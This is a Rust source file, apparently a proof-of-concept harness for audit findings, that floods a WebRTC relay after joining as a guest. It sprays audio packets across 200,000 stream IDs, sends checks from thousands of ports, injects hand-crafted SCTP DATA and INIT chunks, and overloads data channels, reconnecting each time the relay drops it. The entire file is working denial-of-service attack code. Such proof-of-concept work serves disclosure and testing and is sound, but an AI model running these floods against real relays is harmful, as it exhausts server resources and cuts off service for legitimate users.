//! A modified page whose transport is genuine.

use std::time::{Duration, Instant};

use str0m::channel::{ChannelConfig, ChannelId};
use str0m::format::Codec;
use str0m::rtp::RtpWrite;
use tokio::net::UdpSocket;

use super::Target;
use crate::page::Page;
use crate::smuggler;
use crate::socket::{Cut, Socket};

const CONNECT_WITHIN: Duration = Duration::from_secs(5);
/// Before it comes back after its transport was ended.
const PAUSE: Duration = Duration::from_millis(500);
/// What is sent before the endpoint reads what came.
const AT_ONCE: u32 = 20;
/// A chunk of DATA with one byte (RFC 9260 section 3.3.1), padded.
const DATA_BYTES: usize = 20;

/// The guest's page, connected, and its socket.
async fn connected(target: &Target) -> Result<(Page, Socket), Cut> {
    let mut socket = Socket::dial(&target.base, &target.cookie, &target.session).await?;
    socket.enter("customer", true).await?;
    let mut page = Page::new(None).await;
    let answer = socket.offer(1, &page.offer).await?;
    page.take(&answer);
    if page.live_until(CONNECT_WITHIN, |page| page.connected).await {
        Ok((page, socket))
    } else {
        Err(Cut)
    }
}

/// Attacks with `act`, some twenty times before the endpoint reads. Comes back when the relay ended
/// the transport. Returns how often it acted, and how often it came back.
async fn floods(
    target: &Target,
    until: Instant,
    mut act: impl AsyncFnMut(&mut Page),
) -> (u64, u64) {
    let (mut acts, mut visits) = (0, 0);
    while Instant::now() < until {
        let Ok((mut page, _socket)) = connected(target).await else {
            tokio::time::sleep(PAUSE).await;
            continue;
        };
        visits += 1;
        // The channels open.
        page.live_until(Duration::from_millis(300), |_| false).await;
        while Instant::now() < until && !page.closed {
            for _ in 0..AT_ONCE {
                act(&mut page).await;
                acts += 1;
            }
            page.live_until(Duration::from_millis(1), |_| false).await;
        }
        tokio::time::sleep(PAUSE).await;
    }
    (acts, visits)
}

fn told((acts, visits): (u64, u64), what: &str) -> String {
    format!("{acts} {what} in {visits} visits")
}

/// Finding 2a: a packet of sound on each of 200,000 streams.
pub(super) async fn streams(target: &Target, until: Instant) -> String {
    let mut ssrc = 0_u32;
    let acted = floods(target, until, async |page| {
        ssrc = ssrc % 200_000 + 1;
        let pt = page.pt(Codec::Opus);
        let mut direct = page.rtc.direct_api();
        if let Some(stream) = direct.reset_stream_tx(page.audio, None, ssrc.into(), None) {
            let packet = RtpWrite::new(pt, 1.into(), 0, Instant::now(), vec![0; 7]);
            stream.write_rtp(packet);
        }
        page.drain().await;
    });
    told(acted.await, "streams")
}

/// Finding 2b: a genuine check from each of thousands of ports.
pub(super) async fn ports(target: &Target, until: Instant) -> String {
    let acted = floods(target, until, async |page| {
        let check = page.check();
        if let Ok(port) = UdpSocket::bind("127.0.0.1:0").await {
            let _ = port.send_to(&check, page.relay).await;
        }
    });
    told(acted.await, "ports")
}

/// Finding 2c: DATA on each of 60,000 streams that nobody opened.
pub(super) async fn channels(target: &Target, until: Instant) -> String {
    let mut stream = 100_u16;
    let acted = floods(target, until, async |page| {
        let mut packet = Vec::new();
        for _ in 0..40 {
            stream = if stream < 60_100 { stream + 1 } else { 100 };
            let mut chunk = vec![0, 3, 0, 17, 0, 0, 0, 0];
            chunk.extend(stream.to_be_bytes());
            // The first of a stream, of type binary (RFC 8831 section 8).
            chunk.extend([0, 0, 0, 0, 0, 53, b'x']);
            chunk.resize(DATA_BYTES, 0);
            packet.extend(chunk);
        }
        smuggler::send_chunks(&packet);
        page.drain().await;
    });
    told(acted.await, "packets for 40 streams")
}

/// Finding 2d: beginnings of an association, each with a tag of its own.
pub(super) async fn beginnings(target: &Target, until: Instant) -> String {
    let mut tag = 1_u32;
    let acted = floods(target, until, async |page| {
        tag = tag.wrapping_add(1);
        let mut init = vec![1, 0, 0, 20];
        init.extend(tag.to_be_bytes());
        init.extend([0, 1, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 9]);
        smuggler::send_chunks(&init);
        page.drain().await;
    });
    told(acted.await, "beginnings")
}

/// Finding 2e: messages on both channels, as many as go out.
pub(super) async fn messages(target: &Target, until: Instant) -> String {
    let mut n = 0_u32;
    let acted = floods(target, until, async |page| {
        n += 1;
        // Mostly on `live`: on `sure` the page would go at once.
        let channel = if n.is_multiple_of(2_000) {
            page.sure
        } else {
            page.live
        };
        write(page, channel, &[b'x'; 1_000]).await;
    });
    told(acted.await, "messages")
}

/// Finding 2e: sound at more than ten times the rate.
pub(super) async fn packets(target: &Target, until: Instant) -> String {
    let mut n = 0_u32;
    let acted = floods(target, until, async |page| {
        n += 1;
        let pt = page.pt(Codec::Opus);
        let mut direct = page.rtc.direct_api();
        if let Some(stream) = direct.stream_tx_by_mid(page.audio, None) {
            let seq = u64::from(n).into();
            stream.write_rtp(RtpWrite::new(pt, seq, n, Instant::now(), vec![0; 1_000]));
        }
        page.drain().await;
    });
    told(acted.await, "packets")
}

/// Finding 3: messages on a channel that the relay was not told of, each of which was a line.
pub(super) async fn babble(target: &Target, until: Instant) -> String {
    let mut channel = None;
    let acted = floods(target, until, async |page| {
        let config = ChannelConfig {
            negotiated: Some(100),
            ..Default::default()
        };
        let known = channel.filter(|id| page.rtc.channel(*id).is_some());
        let id = known.unwrap_or_else(|| page.rtc.direct_api().create_data_channel(config));
        channel = Some(id);
        write(page, id, b"x").await;
    });
    told(acted.await, "messages")
}

async fn write(page: &mut Page, channel: ChannelId, message: &[u8]) {
    if let Some(mut channel) = page.rtc.channel(channel) {
        let _ = channel.write(true, message);
    }
    page.drain().await;
}
